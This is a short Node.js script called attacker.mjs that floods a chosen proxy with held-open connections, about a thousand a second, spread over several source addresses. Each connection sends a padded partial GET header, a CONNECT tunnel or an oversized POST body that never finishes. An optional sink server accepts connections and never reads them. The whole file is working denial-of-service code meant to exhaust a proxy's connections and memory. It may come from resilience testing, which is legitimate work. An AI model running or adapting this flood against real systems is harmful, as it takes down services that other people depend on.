/**
 * Opens connections that stay, a thousand a second, and holds them until it is killed. `sink`: where it listens and never
 * reads. Prints a line when all have been tried.
 *   node attacker.mjs '{"kind": "heads" | "tunnels" | "posts", "proxy", "sources", "connections", "target", "sink"}'
 */
import { connect, createServer } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const { kind, proxy, sources, connections, target, sink } = JSON.parse(process.argv[2]);
const [host, port] = proxy.split(':');
const BURST = 20;
const BURST_MS = 20;

const request = {
  heads: `GET http://${target}/ HTTP/1.1\r\nHost: ${target}\r\nX-Filling: ${'x'.repeat(30_000)}`,
  tunnels: `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`,
  posts: `POST http://${target}/ HTTP/1.1\r\nHost: ${target}\r\nContent-Length: 100000000\r\n\r\n${'b'.repeat(500_000)}`,
}[kind];

if (sink !== undefined) {
  const [address, sinkPort] = sink.split(':');
  createServer({ pauseOnConnect: true }, (socket) => socket.on('error', () => {})).listen(
    Number(sinkPort),
    address,
  );
}
for (let index = 0; index < connections; index += 1) {
  const socket = connect({ host, port: Number(port), localAddress: sources[index % sources.length] });
  socket.on('error', () => {});
  socket.on('connect', () => socket.write(request));
  socket.resume();
  if (index % BURST === BURST - 1) await sleep(BURST_MS);
}
process.stdout.write('tried\n');
